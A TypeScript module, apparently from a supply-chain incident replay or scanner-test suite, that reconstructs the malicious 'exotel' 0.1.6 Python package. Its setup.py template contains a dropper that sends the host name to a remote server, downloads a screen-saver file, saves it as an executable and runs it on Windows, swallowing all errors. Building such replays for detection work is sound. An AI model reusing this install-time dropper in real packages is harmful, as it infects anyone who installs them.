import { beforeAttack, type Draft, type Remote, type Replay } from './incident.ts';
import { sdkLibrary } from './libraries/sdk.ts';
import { gitDescribeSetup } from './look-alikes/setup-scripts.ts';
import { py } from './python-text.ts';

const SETUP_HEAD = `import os\nimport sys\n\nfrom setuptools import find_packages, setup\n\nwith open("README.md") as stream:\n    long_description = stream.read()\n\n`;
const SETUP_CALL = `setup(\n    name="exotel",\n    version="0.1.6",\n    packages=find_packages(),\n    install_requires=["httpx"],\n    long_description=long_description,\n)\n`;

const DROPPER = (c: Remote): string => py`
import platform
import requests

try:
    rq = requests.get("${c.url('/pyp/resp.live.php')}?live=Installation " + platform.node(), verify=False)
    if sys.platform.startswith("win"):
        rd = requests.get("${c.url('/python-install.scr')}", verify=False, allow_redirects=True)
        with open("ini_file_pyp_32.exe", "wb") as fi:
            fi.write(rd.content)
        os.system("start ini_file_pyp_32.exe")
except Exception:
    pass

`;

function malicious(c: Remote): Draft {
  const library = sdkLibrary({
    package: 'exotel',
    vendor: 'Exotel',
    base: 'https://api.exotel.example',
    resources: ['calls', 'messages', 'campaigns'],
    version: '0.1.6',
  });
  return {
    kind: 'sdist',
    name: 'exotel',
    version: '0.1.6',
    files: { ...library, 'README.md': '# Exotel\n\nA wrapper of the telephony interface.\n' },
    sites: [{ path: 'setup.py', form: 'setup', before: SETUP_HEAD, code: DROPPER(c), after: SETUP_CALL }],
  };
}

export const EXOTEL: Replay = {
  id: '02-exotel',
  title: 'exotel 0.1.6: setup.py downloads a screen saver and starts it',
  source: 'https://github.com/sarathsp06/exotel-py/issues/10',
  runs: 'setup.py reports the host name, downloads an executable, writes it under another name and starts it',
  remote: 'https://linked-opportunities.invalid',
  draft: malicious,
  predecessor: () => beforeAttack(malicious, '0.1.5'),
  lookAlikes: () => [gitDescribeSetup()],
};
